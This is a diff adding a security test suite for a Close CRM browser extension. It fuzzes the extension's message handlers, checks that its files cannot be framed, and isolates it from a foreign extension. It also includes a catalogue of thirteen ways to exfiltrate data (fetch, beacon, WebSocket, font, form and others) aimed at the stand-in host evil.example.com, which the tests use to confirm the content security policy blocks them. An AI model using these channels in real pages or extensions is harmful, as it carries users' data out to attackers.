@@ -1,0 +1,240 @@
+import { readdir } from 'node:fs/promises';
+import { join } from 'node:path';
+import fc from 'fast-check';
+import type { Page } from 'puppeteer-core';
+import { beforeAll, beforeEach, expect, it } from 'vitest';
+import { asksOfContentScripts, asksOfOwnPages } from '../../../lib/messaging/contract.ts';
+import { byRole } from '../../harness/accessible.ts';
+import { contentScriptOf } from '../../harness/content-script.ts';
+import { buildFolder } from '../../harness/root.ts';
+import { beginAnew, chipOn, leadPage, puts } from '../../harness/story.ts';
+import { useOwnConnectedStory } from '../../harness/use-story.ts';
+import { waitFor } from '../../harness/wait-for.ts';
+import { ids } from '../../sandbox/seed.ts';
+
+// What a page, a taken-over content script, another extension and a hostile module of our own can do. One browser for all.
+
+const story = useOwnConnectedStory();
+let options: Page;
+beforeAll(async () => {
+  options = await story.waitForExtensionPage('options.html');
+});
+beforeEach(() => beginAnew(story));
+
+/** All that is stored, but for the tokens that a content script may ask for. */
+// What a page says of itself may change its own card's token and what the toolbar button shows on its tab.
+const stored = () =>
+  options.evaluate(`Promise.all([
+    chrome.storage.local.get(null), chrome.storage.sync.get(null), chrome.storage.session.get(null),
+  ]).then((areas) => JSON.stringify(areas.map((area) =>
+    Object.entries(area).filter(([name]) => !/^(card-token:|shown-pages$)/.test(name)).sort())))`);
+
+/** Messages as a taken-over content script might send them: proper requests, broken ones and anything else. */
+function hostileMessages(count: number): { name?: unknown }[] {
+  const { alder: organizationId } = ids.organizations;
+  const uuid = '00000000-0000-4000-8000-000000000009';
+  const deal = { opportunityId: ids.sampleDeal, organizationId, leadName: 'Planted', leadId: ids.sampleLead };
+  const proper = {
+    ...{
+      ...deal,
+      id: uuid,
+      changeId: uuid,
+      token: uuid,
+      tabId: 1,
+      query: 'Marlow',
+      refresh: true,
+      mine: ['value'],
+    },
+    ...{ base: {}, patch: { confidence: 1, value: 1 }, openedFor: null, entries: { value: '1' }, savedAt: 1 },
+    ...{ pins: { planted: ['value'] }, asksBeforeSaving: true, references: [] },
+  };
+  const names = Object.keys({ ...asksOfContentScripts, ...asksOfOwnPages });
+  const part = fc.oneof(fc.constantFrom(...Object.values(proper)), fc.jsonValue({ maxDepth: 2 }));
+  const input = fc.oneof(
+    fc.constant(proper),
+    fc
+      .tuple(fc.constantFrom(...Object.keys(proper)), part)
+      .map(([key, value]) => ({ ...proper, [key]: value })),
+    fc.subarray(Object.entries(proper)).map((entries) => Object.fromEntries(entries)),
+    fc.jsonValue({ maxDepth: 2 }),
+  );
+  const name = fc.oneof(
+    { arbitrary: fc.constantFrom(...names), weight: 8 },
+    {
+      arbitrary: fc.constantFrom('__proto__', 'constructor', 'toString', '', 'deal.save ', 'DEAL.SAVE'),
+      weight: 1,
+    },
+    { arbitrary: fc.jsonValue({ maxDepth: 1 }), weight: 1 },
+  );
+  const message = fc.oneof(
+    { arbitrary: fc.record({ name, input }), weight: 9 },
+    { arbitrary: fc.record({ name, input, card: fc.constant('close') }, { requiredKeys: [] }), weight: 1 },
+    { arbitrary: fc.jsonValue({ maxDepth: 2 }), weight: 1 },
+  );
+  return fc.sample(message, { numRuns: count, seed: 7 }) as { name?: unknown }[];
+}
+
+it('10 000 messages from a content script change nothing, ask nothing of Close and end nothing', async () => {
+  const page = await story.newPage(leadPage());
+  const asContentScript = await contentScriptOf(page);
+  // What the page itself sets off is over, its chip being there.
+  await chipOn(page);
+  const before = await stored();
+  await story.evaluateInWorker('globalThis.mark = 1');
+  const answered = new Set<unknown>();
+  const messages = hostileMessages(10_000);
+  for (let start = 0; start < messages.length; start += 1_000) {
+    const batch = messages.slice(start, start + 1_000);
+    const answers = (await asContentScript(`Promise.all(${JSON.stringify(batch)}.map((message) =>
+      chrome.runtime.sendMessage(message).then((answer) => answer ?? null, () => null)))`)) as unknown[];
+    for (const [index, answer] of answers.entries()) if (answer) answered.add(batch[index]?.name);
+  }
+  expect([...answered].sort()).toEqual(['card.request', 'note.pressed', 'page.report']);
+  expect(await stored()).toBe(before);
+  expect(await story.evaluateInWorker('globalThis.mark')).toBe(1);
+  expect(story.sandbox.requests).toEqual([]);
+  expect(story.sandbox.strayRequests).toEqual([]);
+});
+
+/** Puts each address into a frame of its own and says which of them show anything. */
+async function frameEach(page: Page, addresses: readonly string[]): Promise<string[]> {
+  await page.evaluate(async (sources) => {
+    const frames = sources.map((source) => Object.assign(document.createElement('iframe'), { src: source }));
+    const loaded = frames.map((frame) => new Promise((resolve) => frame.addEventListener('load', resolve)));
+    document.body.append(...frames);
+    await Promise.all(loaded);
+  }, addresses);
+  const children = await waitFor('the frames', () => {
+    const found = page.mainFrame().childFrames();
+    return found.length >= addresses.length && found;
+  });
+  const shown = await Promise.all(children.map((frame) => frame.evaluate('location.href')));
+  return shown.map(String).filter((address) => address.startsWith('chrome-extension:'));
+}
+
+it('lets nobody frame a file of the package, but Close the card', async () => {
+  const files = (await readdir(buildFolder, { recursive: true, withFileTypes: true }))
+    .filter((entry) => entry.isFile())
+    .map(({ parentPath, name }) => join(parentPath, name).slice(buildFolder.length + 1));
+  expect(files.length).toBeGreaterThan(20);
+  const close = await story.newPage(leadPage());
+  const asContentScript = await contentScriptOf(close);
+  // The name that stands for the extension until the browser ends, as a page may learn it from a frame.
+  const secret = String(await asContentScript("new URL(chrome.runtime.getURL('/card.html')).origin"));
+  const own = `chrome-extension://${story.extensionId}`;
+  expect(secret).not.toBe(own);
+  const everyAddress = [own, secret].flatMap((origin) => files.map((file) => `${origin}/${file}`));
+  const foreign = await story.newPage('https://plain.example.com/');
+  expect(await frameEach(foreign, everyAddress)).toEqual([]);
+  expect((await frameEach(close, everyAddress)).map((address) => new URL(address).pathname)).toEqual([
+    '/card.html',
+  ]);
+  await Promise.all([foreign.close(), close.close()]);
+});
+
+it('shows another extension none of its requests, whatever rights that has', async () => {
+  const foreignId = await story.browser.installExtension(join(import.meta.dirname, 'foreign-extension'));
+  const target = await story.browser.waitForTarget(
+    (each) => each.type() === 'service_worker' && each.url().includes(foreignId),
+  );
+  const foreign = await target.worker();
+  if (!foreign) throw new Error('The foreign extension does not run.');
+  await foreign.evaluate('ready');
+  const seen = async () => (await foreign.evaluate('seen')) as string[];
+  const page = await story.newPage(leadPage());
+  await waitFor('its own look at the page', async () => (await seen()).includes(leadPage()));
+  // What a page asks for, it sees and sends elsewhere.
+  const plain = await story.newPage('https://plain.example.com/');
+  await plain.evaluate("fetch('https://api.close.com/api/v1/me/', { mode: 'no-cors' }).catch(() => {})");
+  await waitFor('the redirect', async () => (await seen()).includes('https://plain.example.com/stolen'));
+  expect(story.sandbox.requests).toEqual([]);
+  const before = (await seen()).length;
+  const popup = await story.openPopup(page);
+  await (await byRole(popup, 'radio', '90%')).click();
+  await waitFor('the save', () => puts(story)[0]?.status === 200);
+  expect((await seen()).slice(before).filter((address) => /api\.close\.com|stolen/.test(address))).toEqual(
+    [],
+  );
+  await Promise.all([page.close(), plain.close()]);
+});
+
+/** Ways to carry something out of a page, each settled once it was sent or failed. */
+const waysOut = `({ address, ending, element }) => ({
+  fetch: () => fetch(address),
+  image: () => element('img', { src: address }),
+  beacon: () => navigator.sendBeacon(address, 'key'),
+  WebSocket: () => ending(new WebSocket(address.replace('https', 'wss'))),
+  EventSource: () => ending(new EventSource(address)),
+  font: () => new FontFace('out', 'url(' + address + ')').load(),
+  style: () => element('link', { rel: 'stylesheet', href: address }),
+  import: () => import(address),
+  worker: () => ending(new Worker(address)),
+  prefetch: () => element('link', { rel: 'prefetch', href: address }),
+  frame: () => element('iframe', { src: address }),
+  media: () => element('video', { src: address }),
+  form: () => {
+    const form = element('form', { method: 'post', action: address, target: '_blank' });
+    document.forms[document.forms.length - 1].submit();
+    return form;
+  },
+})`;
+
+/** Tries each of these ways from a page and returns their names once each was sent, has failed or was refused. */
+async function tryWaysOut(page: Page): Promise<string[]> {
+  return (await page.evaluate(`(() => {
+    const ending = (source) => new Promise((resolve) => {
+      for (const type of ['load', 'error', 'open']) source.addEventListener(type, resolve);
+    });
+    const element = (name, properties) => {
+      const made = Object.assign(document.createElement(name), properties);
+      document.body.append(made);
+      return ending(made);
+    };
+    const names = Object.keys((${waysOut})({}));
+    return Promise.all(names.map(async (name) => {
+      const address = 'https://evil.example.com/' + name + '?key';
+      // The browser tells the document of refusals that it does not tell the one who asked.
+      const refusal = new Promise((resolve) =>
+        document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
+          if (blockedURI.includes('evil.example.com/' + name)) resolve();
+        }));
+      try { await Promise.race([(${waysOut})({ address, ending, element })[name](), refusal]); } catch {}
+      return name;
+    }));
+  })()`)) as string[];
+}
+
+/** What came to hosts that nobody should call. A set, because the browser asks once more where a host says that it is the wrong one. */
+function arrivals(): string[] {
+  const paths = new Set(story.sandbox.strayRequests.map(({ path }) => path.slice(1)));
+  paths.delete('favicon.ico');
+  return [...paths].sort();
+}
+
+it('lets a hostile module of its own send nothing out, but by leaving the page', async () => {
+  const page = await story.openExtensionPage('options.html');
+  const tried = await tryWaysOut(page);
+  expect(tried).toHaveLength(13);
+  const fromWorker = "fetch('https://evil.example.com/worker').then(() => 'sent', () => 'refused')";
+  expect(await story.evaluateInWorker(fromWorker)).toBe('refused');
+  // No policy holds a page back from leaving, which is why the package is searched for that.
+  await page.evaluate("location.href = 'https://evil.example.com/navigation?key'");
+  await waitFor('the navigation', () => story.sandbox.strayRequests.length > 0);
+  // Its request arrives before the page is left, and what is tried until then ends with it.
+  await waitFor('the other page', () =>
+    page
+      .evaluate("location.host === 'evil.example.com' && document.readyState === 'complete'")
+      .catch(() => false),
+  );
+  expect(arrivals()).toEqual(['navigation']);
+  // Where that page came to there is no policy: every way that was tried arrives from there, and is counted.
+  story.sandbox.strayRequests.length = 0;
+  // Not waited for: some of what is sent is not answered.
+  void tryWaysOut(page).catch(() => {});
+  await waitFor('the form', () => arrivals().includes('form'));
+  // It opened a tab, and a page behind another one loads no media.
+  await page.bringToFront();
+  await waitFor('every way out', () => arrivals().length === tried.length);
+  expect(arrivals()).toEqual([...tried].sort());
+  await page.close();
+});
